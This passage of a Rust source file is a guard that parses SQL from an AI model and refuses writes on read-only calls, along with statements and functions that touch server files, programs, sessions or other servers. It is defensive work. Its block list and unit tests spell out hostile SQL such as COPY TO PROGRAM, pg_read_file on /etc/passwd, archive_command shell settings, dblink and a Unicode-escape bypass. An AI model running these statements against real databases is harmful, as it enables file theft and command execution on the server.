//! What SQL from the model may run: a real SQL parser (`sqlparser`) reads the text and its syntax
//! tree is walked. Read-only calls admit only reads (SELECT / WITH / VALUES / EXPLAIN without
//! ANALYZE / SHOW, and SQLite's read-only PRAGMAs); every call, approved writes included, refuses
//! statements and functions that reach past the database: server files, programs, other
//! sessions, server settings, other servers, SQL hidden in strings, and (SQLite) other files.
//! Text the parser cannot read is refused, never passed through.

use sqlparser::ast::{
    Expr, ObjectName, ObjectNamePart, Query, Select, SetExpr, Statement, TableFactor, Visit, Visitor,
};
use sqlparser::dialect::{Dialect as SqlDialect, PostgreSqlDialect, SQLiteDialect};
use sqlparser::keywords::Keyword;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};
use std::ops::ControlFlow;

/// Whose grammar the SQL is read with.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    /// PostgreSQL.
    Postgres,
    /// SQLite.
    Sqlite,
}

/// What the call may do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Access {
    /// `execute_sql_query`: reads only.
    Read,
    /// `execute_sql_write`: an approved write.
    Write,
}

/// Why a statement was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// No statement in the text.
    #[error("the SQL is empty; give one statement")]
    Empty,
    /// The parser could not read the text, so nothing about it can be checked.
    #[error("the SQL could not be parsed ({0}), so it cannot be checked and was not run; write one plain {1} statement")]
    Unparsed(String, &'static str),
    /// More than one statement.
    #[error("the SQL holds more than one statement; give exactly one per call")]
    Multiple,
    /// A statement kind that never runs through these tools.
    #[error("`{kind}` is refused: it {why}")]
    Statement {
        /// The statement's leading keywords.
        kind: String,
        /// What it would do.
        why: &'static str,
    },
    /// A statement kind that is not a read, in a read-only call.
    #[error("`{kind}` is not a read: execute_sql_query runs only SELECT, WITH, VALUES, EXPLAIN (without ANALYZE) and SHOW{pragma}; writes go through execute_sql_write on a connection marked writable, with the user's approval")]
    NotARead {
        /// The statement's leading keywords.
        kind: String,
        /// ", read-only PRAGMAs" for SQLite.
        pragma: &'static str,
    },
    /// A function that reaches past the database.
    #[error("function `{name}` is refused: it {why}")]
    Function {
        /// The function as written (schema-qualified when it was).
        name: String,
        /// What it touches.
        why: &'static str,
    },
    /// A PRAGMA that is not a known read (or sets a value), in a read-only call.
    #[error("`{0}` is refused: only read-only pragmas run here (table_info, index_list, foreign_key_list, database_list, user_version, ... without a value)")]
    Pragma(String),
    /// A PRAGMA that would undo VANA's SQLite hardening, on any call.
    #[error("`{0}` is refused: it would undo VANA's SQLite hardening or point SQLite at other directories")]
    HardeningPragma(String),
    /// `U&"..."` identifiers: PostgreSQL decodes escapes the parser leaves as written.
    #[error("Unicode-escaped identifiers (U&\"...\") are refused: they can spell a different name than the check reads")]
    UnicodeIdentifier,
}

/// Checks one statement for `access` on `dialect`; `Ok` means it may be sent to the database.
pub fn check(sql: &str, dialect: Dialect, access: Access) -> Result<(), Refusal> {
    let d: &dyn SqlDialect = match dialect {
        Dialect::Postgres => &PostgreSqlDialect {},
        Dialect::Sqlite => &SQLiteDialect {},
    };
    let tokens = Tokenizer::new(d, sql)
        .tokenize()
        .map_err(|e| Refusal::Unparsed(e.to_string(), statement_hint(access)))?;
    let words: Vec<&Token> = tokens.iter().filter(|t| !matches!(t, Token::Whitespace(_))).collect();
    if words.iter().all(|t| matches!(t, Token::SemiColon | Token::EOF)) {
        return Err(Refusal::Empty);
    }
    if dialect == Dialect::Sqlite && keyword_at(&words, 0).as_deref() == Some("PRAGMA") {
        scan_tokens(&tokens)?;
        return check_pragma(sql, &words, access);
    }
    let statements = match Parser::parse_sql(d, sql) {
        Ok(s) => s,
        Err(e) => {
            // Unreadable text still gets the most telling reason: a refused call in it, or a
            // leading keyword that is refused anyway (DO, DETACH, VACUUM INTO, ALTER SYSTEM).
            scan_tokens(&tokens)?;
            if let Some(r) = refused_by_keywords(&words, dialect, access) {
                return Err(r);
            }
            return Err(Refusal::Unparsed(e.to_string(), statement_hint(access)));
        }
    };
    match statements.len() {
        0 => return Err(Refusal::Empty),
        1 => {}
        _ => return Err(Refusal::Multiple),
    }
    let mut walk = Walk { dialect, access, depth: 0 };
    if let ControlFlow::Break(r) = statements[0].visit(&mut walk) {
        return Err(*r);
    }
    // The walk names what it refuses precisely; the token scan backs it up whatever node a call
    // or name ended up in.
    scan_tokens(&tokens)
}

fn statement_hint(access: Access) -> &'static str {
    match access {
        Access::Read => "SELECT",
        Access::Write => "SQL",
    }
}

/// The unquoted word at position `i` of the non-whitespace tokens, upper-cased.
fn keyword_at(words: &[&Token], i: usize) -> Option<String> {
    match words.get(i) {
        Some(Token::Word(w)) if w.quote_style.is_none() => Some(w.value.to_ascii_uppercase()),
        _ => None,
    }
}

/// Refusals decided from the leading keywords, for statements the parser cannot read.
fn refused_by_keywords(words: &[&Token], dialect: Dialect, access: Access) -> Option<Refusal> {
    let first = keyword_at(words, 0)?;
    let second = keyword_at(words, 1);
    let statement = |kind: &str, why| Some(Refusal::Statement { kind: kind.to_string(), why });
    let into = || {
        words.iter().any(|t| matches!(t, Token::Word(w) if w.quote_style.is_none() && w.value.eq_ignore_ascii_case("into")))
    };
    match (first.as_str(), second.as_deref()) {
        ("DO", _) => statement("DO", WHY_CODE),
        ("ATTACH" | "DETACH", _) => statement(&first, WHY_ATTACH),
        ("VACUUM", _) if into() => statement("VACUUM INTO", WHY_VACUUM_INTO),
        ("ALTER", Some("SYSTEM")) => statement("ALTER SYSTEM", WHY_SERVER_CONFIG),
        ("COPY", _) => statement("COPY", WHY_COPY),
        ("LOAD", _) => statement("LOAD", WHY_LOAD),
        // A read the parser could not follow: its own error says where.
        ("SELECT" | "WITH" | "VALUES" | "EXPLAIN" | "SHOW" | "TABLE", _) => None,
        // Another SQL keyword (REINDEX, CLUSTER, ...) in a read-only call: not a read, whatever
        // the rest says. A typo falls through to the parser's error.
        _ if access == Access::Read
            && matches!(words.first(), Some(Token::Word(w)) if w.keyword != Keyword::NoKeyword) =>
        {
            Some(Refusal::NotARead {
                kind: match second {
                    Some(s) if matches!(first.as_str(), "CREATE" | "ALTER" | "DROP") => {
                        format!("{first} {s}")
                    }
                    _ => first,
                },
                pragma: pragma_note(dialect),
            })
        }
        _ => None,
    }
}

fn pragma_note(dialect: Dialect) -> &'static str {
    match dialect {
        Dialect::Sqlite => ", read-only PRAGMAs",
        Dialect::Postgres => "",
    }
}

const WHY_CODE: &str = "runs procedural code that cannot be checked";
const WHY_ATTACH: &str = "opens or closes another database file on the host";
const WHY_VACUUM_INTO: &str = "writes a copy of the database to a file on the host";
const WHY_SERVER_CONFIG: &str =
    "changes the server's configuration (settings such as archive_command run programs)";
const WHY_COPY: &str =
    "reads or writes files on the database server or runs programs there (COPY ... PROGRAM); \
                        read with SELECT and write with INSERT instead";
const WHY_LOAD: &str = "loads a library into the database server";

/// Token-level checks that hold whatever shape the syntax tree has.
fn scan_tokens(tokens: &[Token]) -> Result<(), Refusal> {
    for (i, t) in tokens.iter().enumerate() {
        let Token::Word(w) = t else { continue };
        // U&"..." exactly as PostgreSQL lexes it: U, &, a quoted identifier, no space between.
        if w.quote_style.is_none()
            && w.value.eq_ignore_ascii_case("u")
            && matches!(tokens.get(i + 1), Some(Token::Ampersand))
            && matches!(tokens.get(i + 2), Some(Token::Word(q)) if q.quote_style == Some('"'))
        {
            return Err(Refusal::UnicodeIdentifier);
        }
        // A refused function name followed by `(` however the parser would file the call,
        // except where a table is named before its column list (INSERT INTO lo_log (a) ...).
        let next = tokens[i + 1..].iter().find(|t| !matches!(t, Token::Whitespace(_)));
        if matches!(next, Some(Token::LParen)) && !names_a_table(&tokens[..i]) {
            if let Some(why) = refused_function(&w.value) {
                return Err(Refusal::Function { name: w.value.clone(), why });
            }
        }
    }
    Ok(())
}

/// Whether the (possibly qualified) name ending right after `before` follows a keyword that
/// introduces a table name: INTO, TABLE, EXISTS (IF NOT EXISTS), REFERENCES, ON (CREATE INDEX).
fn names_a_table(before: &[Token]) -> bool {
    let mut rest = before.iter().rev().filter(|t| !matches!(t, Token::Whitespace(_))).peekable();
    // Step back over `schema .` pairs.
    while matches!(rest.peek(), Some(Token::Period)) {
        rest.next();
        rest.next();
    }
    matches!(rest.next(), Some(Token::Word(w)) if w.quote_style.is_none()
        && matches!(w.keyword, Keyword::INTO | Keyword::TABLE | Keyword::EXISTS | Keyword::REFERENCES | Keyword::ON))
}

/// SQLite's PRAGMA, read from tokens: `PRAGMA [schema.]name [= value | (value)]`.
fn check_pragma(sql: &str, words: &[&Token], access: Access) -> Result<(), Refusal> {
    let mut rest: Vec<&Token> = words[1..].to_vec();
    while matches!(rest.last(), Some(Token::EOF | Token::SemiColon)) {
        rest.pop();
    }
    if rest.iter().any(|t| matches!(t, Token::SemiColon)) {
        return Err(Refusal::Multiple);
    }
    let text = sql.trim().trim_end_matches(';').trim().to_string();
    // Skip an optional `schema.` prefix.
    let name_at = if matches!(rest.get(1), Some(Token::Period)) { 2 } else { 0 };
    let Some(Token::Word(name)) = rest.get(name_at) else {
        return Err(Refusal::Unparsed(format!("no pragma name in `{text}`"), statement_hint(access)));
    };
    let has_value = rest.len() > name_at + 1;
    match (pragma_allowed(&name.value, has_value, access == Access::Write), access) {
        (true, _) => Ok(()),
        (false, Access::Read) => Err(Refusal::Pragma(text)),
        (false, Access::Write) => Err(Refusal::HardeningPragma(text)),
    }
}

/// PRAGMAs that only read, by name; the first group takes a table or index name (or a count).
const READ_PRAGMAS_WITH_ARG: &[&str] = &[
    "table_info",
    "table_xinfo",
    "table_list",
    "index_info",
    "index_xinfo",
    "index_list",
    "foreign_key_list",
    "foreign_key_check",
    "integrity_check",
    "quick_check",
];
const READ_PRAGMAS: &[&str] = &[
    "database_list",
    "collation_list",
    "function_list",
    "module_list",
    "pragma_list",
    "compile_options",
    "user_version",
    "schema_version",
    "application_id",
    "data_version",
    "encoding",
    "page_count",
    "page_size",
    "freelist_count",
    "journal_mode",
    "foreign_keys",
    "auto_vacuum",
    "trusted_schema",
    "query_only",
];
/// PRAGMAs that undo VANA's hardening or point SQLite at other directories, refused on writes too.
const HARDENING_PRAGMAS: &[&str] =
    &["trusted_schema", "writable_schema", "query_only", "temp_store_directory", "data_store_directory"];

/// Whether `PRAGMA name` (with a value or argument when `has_value`) may run; on writable
/// connections everything but the hardening pragmas, on read-only ones only the known reads.
/// Shared by the text check and the SQLite authorizer.
pub fn pragma_allowed(name: &str, has_value: bool, writable: bool) -> bool {
    let name = name.to_ascii_lowercase();
    if writable {
        return !(has_value && HARDENING_PRAGMAS.contains(&name.as_str()));
    }
    READ_PRAGMAS_WITH_ARG.contains(&name.as_str()) || (!has_value && READ_PRAGMAS.contains(&name.as_str()))
}

/// Walks the syntax tree: statement kinds, reads only where asked, and every function call.
struct Walk {
    dialect: Dialect,
    access: Access,
    /// How many statements enclose the one being visited (a CTE's DELETE is at depth 1).
    depth: usize,
}

impl Walk {
    fn refuse<T>(r: Refusal) -> ControlFlow<Box<Refusal>, T> {
        ControlFlow::Break(Box::new(r))
    }

    fn statement(&self, s: &Statement) -> Result<(), Refusal> {
        let kind = kind_of(s);
        let refuse = |why| Err(Refusal::Statement { kind: kind.clone(), why });
        // Refused on every path, approved writes included.
        match s {
            Statement::Copy { .. } | Statement::CopyIntoSnowflake { .. } => return refuse(WHY_COPY),
            Statement::Load { .. } | Statement::LoadData { .. } | Statement::Install { .. } => {
                return refuse(WHY_LOAD)
            }
            Statement::AttachDatabase { .. }
            | Statement::AttachDuckDBDatabase { .. }
            | Statement::DetachDuckDBDatabase { .. } => return refuse(WHY_ATTACH),
            Statement::Directory { .. }
            | Statement::Unload { .. }
            | Statement::ExportData(_)
            | Statement::Put { .. }
            | Statement::List(_)
            | Statement::Remove(_) => return refuse("reads or writes files"),
            Statement::CreateFunction(_)
            | Statement::CreateProcedure { .. }
            | Statement::CreateMacro { .. } => {
                return refuse(
                    "creates code whose body is text that cannot be checked; create functions outside VANA",
                )
            }
            Statement::CreateExtension(_) => return refuse("installs code into the database server"),
            Statement::CreateServer(_)
            | Statement::CreateForeignTable(_)
            | Statement::CreateForeignDataWrapper(_)
            | Statement::CreateUserMapping(_)
            | Statement::CreateSecret { .. } => {
                return refuse("connects the database to files or other servers")
            }
            Statement::Kill { .. } => return refuse("ends another session"),
            Statement::Call(f) => function(&f.name).break_value().map_or(Ok(()), |r| Err(*r))?,
            Statement::Insert(i) => {
                if let sqlparser::ast::TableObject::TableFunction(f) = &i.table {
                    function(&f.name).break_value().map_or(Ok(()), |r| Err(*r))?;
                }
            }
            _ => {}
        }
        if self.access == Access::Write {
            return Ok(());
        }
        let pragma = pragma_note(self.dialect);
        let not_a_read = || Err(Refusal::NotARead { kind: kind.clone(), pragma });
        match s {
            Statement::Query(_) => Ok(()),
            Statement::Explain { analyze, options, .. } => {
                let analyze_option =
                    options.iter().flatten().any(|o| o.name.value.eq_ignore_ascii_case("analyze"));
                if *analyze || analyze_option {
                    refuse("runs the statement it explains; use EXPLAIN without ANALYZE")
                } else {
                    Ok(())
                }
            }
            Statement::ShowVariable { .. }
            | Statement::ShowVariables { .. }
            | Statement::ShowStatus { .. }
            | Statement::ShowTables { .. }
            | Statement::ShowColumns { .. }
            | Statement::ShowSchemas { .. }
            | Statement::ShowDatabases { .. }
            | Statement::ShowViews { .. }
            | Statement::ShowFunctions { .. }
            | Statement::ShowCollation { .. }
            | Statement::ShowCreate { .. } => Ok(()),
            Statement::Pragma { name, value, .. } if self.dialect == Dialect::Sqlite => {
                let n =
                    name.0.last().and_then(ObjectNamePart::as_ident).map(|i| i.value.as_str()).unwrap_or("");
                if pragma_allowed(n, value.is_some(), false) {
                    Ok(())
                } else {
                    Err(Refusal::Pragma(s.to_string()))
                }
            }
            Statement::Call(_) => refuse("runs a procedure, whose body cannot be checked"),
            Statement::Set(_) | Statement::Reset(_) => refuse("changes session settings or the role"),
            Statement::LISTEN { .. } | Statement::UNLISTEN { .. } | Statement::NOTIFY { .. } => {
                refuse("talks to other sessions")
            }
            Statement::Lock(_) | Statement::LockTables { .. } => {
                refuse("takes locks that block other sessions")
            }
            Statement::Prepare { .. } | Statement::Execute { .. } | Statement::Deallocate { .. } => {
                refuse("runs prepared statements that this check cannot see")
            }
            Statement::Vacuum(_) => refuse("rewrites the database (VACUUM INTO writes a file on the host)"),
            _ => not_a_read(),
        }
    }
}

impl Visitor for Walk {
    type Break = Box<Refusal>;

    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<Self::Break> {
        let nested = self.depth > 0;
        self.depth += 1;
        match self.statement(s) {
            Err(Refusal::NotARead { kind, pragma }) if nested => {
                Self::refuse(Refusal::NotARead { kind: format!("{kind} (inside the query)"), pragma })
            }
            Err(r) => Self::refuse(r),
            Ok(()) => ControlFlow::Continue(()),
        }
    }

    fn post_visit_statement(&mut self, _: &Statement) -> ControlFlow<Self::Break> {
        self.depth -= 1;
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<Self::Break> {
        for op in &q.pipe_operators {
            if let sqlparser::ast::PipeOperator::Call { function: f, .. } = op {
                function(&f.name)?;
            }
        }
        if self.access == Access::Read {
            if !q.locks.is_empty() {
                return Self::refuse(Refusal::Statement {
                    kind: "SELECT ... FOR UPDATE/SHARE".into(),
                    why: "locks rows",
                });
            }
            if let Some(kind) = modifying(&q.body) {
                let pragma = pragma_note(self.dialect);
                return Self::refuse(Refusal::NotARead { kind: format!("{kind} (inside WITH)"), pragma });
            }
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<Self::Break> {
        if self.access == Access::Read && s.into.is_some() {
            let pragma = pragma_note(self.dialect);
            return Self::refuse(Refusal::NotARead { kind: "SELECT INTO".into(), pragma });
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<Self::Break> {
        match e {
            Expr::Function(f) => function(&f.name),
            _ => ControlFlow::Continue(()),
        }
    }

    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<Self::Break> {
        match t {
            TableFactor::Table { name, args: Some(_), .. } | TableFactor::Function { name, .. } => {
                function(name)
            }
            _ => ControlFlow::Continue(()),
        }
    }
}

/// Whether a query body (through set operations) is a data-modifying statement.
fn modifying(body: &SetExpr) -> Option<&'static str> {
    match body {
        SetExpr::Insert(_) => Some("INSERT"),
        SetExpr::Update(_) => Some("UPDATE"),
        SetExpr::Delete(_) => Some("DELETE"),
        SetExpr::Merge(_) => Some("MERGE"),
        SetExpr::SetOperation { left, right, .. } => modifying(left).or_else(|| modifying(right)),
        _ => None,
    }
}

fn function(name: &ObjectName) -> ControlFlow<Box<Refusal>> {
    let written = name.to_string();
    let last = match name.0.last() {
        Some(ObjectNamePart::Identifier(i)) => i.value.as_str(),
        Some(ObjectNamePart::Function(_)) | None => {
            return Walk::refuse(Refusal::Function { name: written, why: "is named by an expression" })
        }
    };
    match refused_function(last) {
        Some(why) => Walk::refuse(Refusal::Function { name: written, why }),
        None => ControlFlow::Continue(()),
    }
}

const FILES: &str = "reads or writes files on the database server";
const LARGE_OBJECTS: &str =
    "works on large objects (lo_import / lo_export copy files between the server's disk and the database)";
const SESSIONS: &str = "signals or messages other sessions of the server";
const SERVER: &str =
    "controls the server itself (configuration, logs, WAL, replication, backups, statistics)";
const SETTINGS: &str = "changes session settings";
const OTHER_SERVERS: &str = "connects to other databases or servers";
const SQL_TEXT: &str = "runs SQL given as a string, which cannot be checked";
const ENGINE: &str = "loads code into the database engine or touches host files (SQLite)";

/// (name, whether it is a prefix, what it touches). Compared case-insensitively with the last
/// part of the (possibly schema-qualified, possibly quoted) name.
const REFUSED_FUNCTIONS: &[(&str, bool, &str)] = &[
    ("pg_read_file", false, FILES),
    ("pg_read_binary_file", false, FILES),
    ("pg_stat_file", false, FILES),
    ("pg_ls_", true, FILES),
    ("pg_file_", true, FILES),
    ("pg_logdir_ls", false, FILES),
    ("lo_", true, LARGE_OBJECTS),
    ("loread", false, LARGE_OBJECTS),
    ("lowrite", false, LARGE_OBJECTS),
    ("pg_terminate_backend", false, SESSIONS),
    ("pg_cancel_backend", false, SESSIONS),
    ("pg_signal_backend", false, SESSIONS),
    ("pg_log_backend_memory_contexts", false, SESSIONS),
    ("pg_notify", false, SESSIONS),
    ("pg_reload_conf", false, SERVER),
    ("pg_rotate_logfile", true, SERVER),
    ("pg_promote", false, SERVER),
    ("pg_switch_wal", false, SERVER),
    ("pg_switch_xlog", false, SERVER),
    ("pg_start_backup", false, SERVER),
    ("pg_stop_backup", false, SERVER),
    ("pg_backup_start", false, SERVER),
    ("pg_backup_stop", false, SERVER),
    ("pg_wal_replay_", true, SERVER),
    ("pg_create_", true, SERVER),
    ("pg_drop_replication_slot", false, SERVER),
    ("pg_copy_", true, SERVER),
    ("pg_replication_", true, SERVER),
    ("pg_logical_", true, SERVER),
    ("pg_sync_replication_slots", false, SERVER),
    ("pg_stat_reset", true, SERVER),
    ("pg_import_system_collations", false, SERVER),
    ("binary_upgrade_", true, SERVER),
    ("set_config", false, SETTINGS),
    ("dblink", true, OTHER_SERVERS),
    ("query_to_xml", true, SQL_TEXT),
    ("cursor_to_xml", true, SQL_TEXT),
    ("ts_stat", false, SQL_TEXT),
    ("load_extension", false, ENGINE),
    ("fts3_tokenizer", false, ENGINE),
    ("readfile", false, ENGINE),
    ("writefile", false, ENGINE),
    ("edit", false, ENGINE),
];

/// What a function reaches past the database, if it is refused.
pub fn refused_function(name: &str) -> Option<&'static str> {
    let name = name.to_ascii_lowercase();
    REFUSED_FUNCTIONS
        .iter()
        .find(|(n, prefix, _)| if *prefix { name.starts_with(n) } else { name == *n })
        .map(|(_, _, why)| *why)
}

/// A statement's leading keywords, for messages: `COPY`, `SET ROLE`, `CREATE FUNCTION`.
fn kind_of(s: &Statement) -> String {
    use sqlparser::ast::Set;
    let known = match s {
        Statement::Copy { .. } => "COPY",
        Statement::Query(_) => "SELECT",
        Statement::Insert(_) => "INSERT",
        Statement::Update(_) => "UPDATE",
        Statement::Delete(_) => "DELETE",
        Statement::Merge(_) => "MERGE",
        Statement::Set(Set::SetRole { .. }) => "SET ROLE",
        Statement::Set(_) => "SET",
        Statement::Reset(_) => "RESET",
        Statement::Call(_) => "CALL",
        Statement::AttachDatabase { .. } => "ATTACH",
        Statement::Explain { .. } => "EXPLAIN",
        _ => "",
    };
    if !known.is_empty() {
        return known.to_string();
    }
    let text = s.to_string();
    let mut words = text.split_whitespace();
    let first = words.next().unwrap_or("statement").to_string();
    match words.next() {
        Some(w)
            if matches!(first.as_str(), "CREATE" | "ALTER" | "DROP")
                && w.chars().all(|c| c.is_ascii_uppercase() || c == '_') =>
        {
            format!("{first} {w}")
        }
        _ => first,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pg(sql: &str) -> Result<(), Refusal> {
        check(sql, Dialect::Postgres, Access::Read)
    }

    fn lite(sql: &str) -> Result<(), Refusal> {
        check(sql, Dialect::Sqlite, Access::Read)
    }

    /// Asserts a refusal whose message contains every fragment.
    fn refused(r: Result<(), Refusal>, sql: &str, fragments: &[&str]) {
        let e = r.expect_err(&format!("`{sql}` must be refused")).to_string();
        for f in fragments {
            assert!(e.contains(f), "`{sql}`: `{e}` lacks `{f}`");
        }
    }

    #[test]
    fn reads_pass() {
        for sql in [
            "SELECT 1",
            "select * from orders where id = $1;",
            "WITH x AS (SELECT 1 AS a) SELECT a FROM x",
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 5) SELECT count(*) FROM n",
            "VALUES (1, 'a'), (2, 'b')",
            "EXPLAIN SELECT * FROM t",
            "EXPLAIN (COSTS off, VERBOSE) SELECT * FROM t",
            "EXPLAIN (ANALYZE false) SELECT 1", // refused below: any ANALYZE option counts
            "SHOW search_path",
            "SHOW ALL",
            "SELECT lower(name), upper(x), length(y), now(), current_setting('search_path') FROM t",
            "SELECT * FROM generate_series(1, 3) WITH ORDINALITY",
            "SELECT a->>'b', a #> '{x}', $1::text::interval FROM t WHERE x = ANY($2)",
            "SELECT 'pg_read_file(''/etc/passwd'')' AS just_text",
            "SELECT \"lo_x\" FROM t", // a column, not a call
            "SELECT count(*) FROM pg_catalog.pg_class",
            "SELECT E'\\'' AS quote, $$pg_read_file('x')$$ AS dollar_text",
        ] {
            if sql.contains("ANALYZE") {
                continue;
            }
            assert_eq!(pg(sql), Ok(()), "{sql}");
        }
        for sql in [
            "SELECT customer, sum(amount) FROM orders WHERE amount >= ?1 GROUP BY customer",
            "SELECT * FROM [orders] JOIN `items` USING (id)",
            "SELECT name FROM pragma_table_info('orders')",
            "EXPLAIN QUERY PLAN SELECT * FROM orders",
            "PRAGMA table_info(orders)",
            "PRAGMA main.index_list('orders');",
            "pragma user_version",
            "PRAGMA integrity_check",
        ] {
            assert_eq!(lite(sql), Ok(()), "{sql}");
        }
    }

    #[test]
    fn hostile_postgres_statements_are_refused_with_their_reason() {
        let table: &[(&str, &[&str])] = &[
            ("COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'", &["`COPY` is refused", "runs programs"]),
            ("copy t from '/etc/passwd'", &["`COPY` is refused"]),
            ("COPY t TO STDOUT", &["`COPY` is refused"]),
            ("  /* hi */ COPY t TO '/tmp/out'", &["`COPY` is refused"]),
            ("DO $$BEGIN PERFORM pg_sleep(0); END$$", &["`DO` is refused", "procedural code"]),
            ("do language plpgsql $x$ begin end $x$", &["`DO` is refused"]),
            ("CALL p()", &["`CALL` is refused"]),
            ("SET ROLE postgres", &["`SET ROLE` is refused", "settings or the role"]),
            ("SET search_path = evil", &["`SET` is refused"]),
            ("SET SESSION AUTHORIZATION postgres", &["is refused"]),
            ("RESET ALL", &["`RESET` is refused"]),
            ("LISTEN ch", &["`LISTEN` is refused", "other sessions"]),
            ("NOTIFY ch, 'x'", &["`NOTIFY` is refused"]),
            ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", &["`LOCK` is refused"]),
            ("PREPARE p AS SELECT 1", &["`PREPARE` is refused", "prepared statements"]),
            ("EXECUTE p", &["`EXECUTE` is refused"]),
            ("DEALLOCATE p", &["`DEALLOCATE` is refused"]),
            ("EXPLAIN ANALYZE SELECT 1", &["`EXPLAIN` is refused", "without ANALYZE"]),
            ("EXPLAIN (ANALYZE, COSTS off) DELETE FROM t", &["`EXPLAIN` is refused"]),
            ("explain (analyze false) SELECT 1", &["without ANALYZE"]),
            ("EXPLAIN DELETE FROM t", &["`DELETE (inside the query)` is not a read"]),
            ("ALTER SYSTEM SET archive_command = 'sh -c x'", &["`ALTER SYSTEM` is refused", "run programs"]),
            ("LOAD 'plpgsql'", &["`LOAD` is refused"]),
            ("CREATE EXTENSION dblink", &["CREATE EXTENSION", "installs code"]),
            ("DELETE FROM t", &["`DELETE` is not a read", "execute_sql_write"]),
            ("INSERT INTO t VALUES (1)", &["`INSERT` is not a read"]),
            ("DROP TABLE t", &["`DROP TABLE` is not a read"]),
            ("TRUNCATE t", &["is not a read"]),
            ("VACUUM FULL", &["`VACUUM` is refused"]),
            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", &["DELETE", "not a read"]),
            ("WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1", &["UPDATE", "not a read"]),
            ("SELECT * INTO newt FROM t", &["`SELECT INTO` is not a read"]),
            ("SELECT * FROM t FOR UPDATE", &["locks rows"]),
            ("SELECT 1; SELECT 2", &["more than one statement"]),
            ("SELECT 1; DELETE FROM t", &["more than one statement"]),
            ("SELECT 1; -- trailing\nDROP TABLE t", &["more than one statement"]),
            ("", &["empty"]),
            (" ; ", &["empty"]),
            ("SELEC 1", &["could not be parsed", "not run"]),
            ("SELECT * FROM ROWS FROM (pg_ls_dir('/'))", &["pg_ls_dir"]),
            ("TABLE t", &["could not be parsed"]),
            ("SELECT U&\"pg_read_fil\\0065\"('/etc/passwd')", &["Unicode-escaped identifiers"]),
            ("SELECT u&\"x\"", &["Unicode-escaped identifiers"]),
        ];
        for (sql, fragments) in table {
            refused(pg(sql), sql, fragments);
        }
    }

    #[test]
    fn hostile_functions_are_refused_wherever_they_appear() {
        let table: &[(&str, &str)] = &[
            ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
            ("SELECT PG_READ_FILE('/etc/passwd')", "PG_READ_FILE"),
            ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
            ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_catalog.pg_read_file"),
            ("SELECT \"pg_catalog\".\"pg_read_binary_file\"('/etc/passwd')", "pg_read_binary_file"),
            ("SELECT Pg_Catalog.Pg_Stat_File('/etc')", "Pg_Stat_File"),
            ("SELECT pg_read_file/* a comment */('/etc/passwd')", "pg_read_file"),
            ("SELECT pg_read_file\n  ('/etc/passwd')", "pg_read_file"),
            ("SELECT * FROM pg_ls_dir('/')", "pg_ls_dir"),
            ("SELECT * FROM pg_catalog.pg_ls_waldir()", "pg_ls_waldir"),
            ("SELECT * FROM LATERAL pg_ls_logdir() l", "pg_ls_logdir"),
            ("SELECT lo_import('/etc/passwd')", "lo_import"),
            ("SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/y')", "lo_"),
            ("SELECT loread(lo_open(1, 262144), 10)", "lo"),
            ("SELECT pg_terminate_backend(123)", "pg_terminate_backend"),
            ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "pg_cancel_backend"),
            ("SELECT pg_reload_conf()", "pg_reload_conf"),
            ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
            ("SELECT pg_promote()", "pg_promote"),
            ("SELECT set_config('search_path', 'evil', false)", "set_config"),
            ("SELECT dblink('host=10.0.0.1', 'select 1')", "dblink"),
            ("SELECT * FROM dblink_exec('x', 'y')", "dblink_exec"),
            ("SELECT * FROM dblink('a','b') AS x(a int)", "dblink"),
            ("SELECT query_to_xml('select pg_read_file(''/etc/passwd'')', true, true, '')", "query_to_xml"),
            ("SELECT query_to_xml_and_xmlschema('select 1', true, true, '')", "query_to_xml_and_xmlschema"),
            ("SELECT cursor_to_xml('c', 1, true, true, '')", "cursor_to_xml"),
            ("SELECT ts_stat('select 1')", "ts_stat"),
            ("SELECT pg_file_write('/tmp/x', 'y', false)", "pg_file_write"),
            ("SELECT pg_notify('ch', 'x')", "pg_notify"),
            (
                "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
                "pg_create_logical_replication_slot",
            ),
            // Nested: subqueries, CTEs, set operations, clauses, arguments, windows, filters.
            ("SELECT (SELECT pg_ls_dir('/') LIMIT 1)", "pg_ls_dir"),
            ("WITH x AS (SELECT pg_read_file('/etc/passwd') AS f) SELECT * FROM x", "pg_read_file"),
            ("SELECT x FROM t WHERE EXISTS (SELECT pg_terminate_backend(1))", "pg_terminate_backend"),
            ("SELECT x FROM t WHERE a IN (SELECT lo_import('/etc/passwd'))", "lo_import"),
            ("SELECT 1 UNION SELECT pg_read_file('x')", "pg_read_file"),
            ("SELECT * FROM t ORDER BY pg_read_file('x')", "pg_read_file"),
            ("SELECT * FROM t GROUP BY 1 HAVING pg_read_file('x') > ''", "pg_read_file"),
            ("SELECT * FROM t JOIN u ON pg_read_file('x') = ''", "pg_read_file"),
            ("SELECT * FROM (VALUES (pg_read_file('x'))) v", "pg_read_file"),
            ("SELECT CASE WHEN true THEN pg_read_file('x') END", "pg_read_file"),
            ("SELECT cast(pg_read_file('x') AS text)", "pg_read_file"),
            ("SELECT lower(upper(pg_read_file('x')))", "pg_read_file"),
            ("SELECT count(*) FILTER (WHERE pg_cancel_backend(1)) FROM t", "pg_cancel_backend"),
